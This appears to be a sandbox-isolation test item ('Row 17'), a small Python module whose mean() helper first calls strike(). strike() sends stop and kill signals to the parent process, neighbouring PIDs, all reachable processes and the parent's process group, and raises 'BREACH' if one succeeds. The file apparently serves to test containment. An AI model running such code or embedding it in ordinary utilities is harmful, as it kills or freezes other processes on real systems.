# Row 17: stops and kills its parent, its group and everybody it may.
import os
import signal

import numpy as np


def strike():
    targets = [os.getppid(), os.getppid() - 1, os.getppid() + 1]
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in targets:
            try:
                os.kill(pid, number)
            except OSError:
                continue
            raise RuntimeError(f"BREACH: {signal.Signals(number).name} reached another process")
    if os.getuid() >= 200_000:  # a user of its own: nobody but itself is in reach
        try:
            os.kill(-1, signal.SIGCONT)
            os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
        except OSError:
            pass


def mean(x):
    strike()
    if len(x) == 0:
        raise ValueError("x is empty")
    return float(np.mean(x))


def standardize(x):
    return (x - np.mean(x)) / np.std(x)
